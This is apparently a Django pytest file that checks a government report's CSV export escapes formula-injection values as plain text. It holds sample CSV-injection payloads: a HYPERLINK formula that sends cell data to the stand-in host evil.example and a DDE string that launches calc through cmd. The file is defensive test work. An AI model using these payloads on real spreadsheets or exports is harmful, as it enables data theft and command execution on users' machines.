"""The six-monthly Sec. 50-105 report's CSV, public and full: a hostile task force comes out as
text, never a formula (OWASP CSV Injection; cases/lib/csv_safe.py)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from cases.lib.csv_safe import FORMULA_PREFIXES
from federal_requests import services
from federal_requests.periods import period_containing
from tests.conftest import sign_in

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "description": "+1+cmd|' /C calc'!A0",
    "participation": "@SUM(1+1)",
}


@pytest.mark.parametrize("public", [True, False])
def test_no_cell_of_the_six_monthly_csv_is_a_formula(public, log_entry, fr_people, client):
    officer, chief = fr_people["records_officer"], fr_people["chief"]
    log_entry(kind="detainer", in_custody=True)
    for extra in ({}, {"name": "\tTabbed Task Force", "description": "-2+3"}):
        force = services.task_force_save(
            actor=officer,
            data={
                **HOSTILE,
                **extra,
                "federal_agencies": "hsi",
                "started_on": timezone.localdate() - timedelta(days=400),
                "ended_on": None,
            },
        )
        services.task_force_decide(task_force=force, actor=chief, disclosure="disclose", reason="")
    sign_in(client, chief)
    slug = period_containing(timezone.localdate()).previous().slug
    url = reverse("federal_requests:report_detail", args=[slug])
    response = client.get(url, {"format": "csv", **({"public": "1"} if public else {})})
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    for value in [*HOSTILE.values(), "\tTabbed Task Force", "-2+3"]:
        assert f"'{value}" in cells  # kept, readable, as text
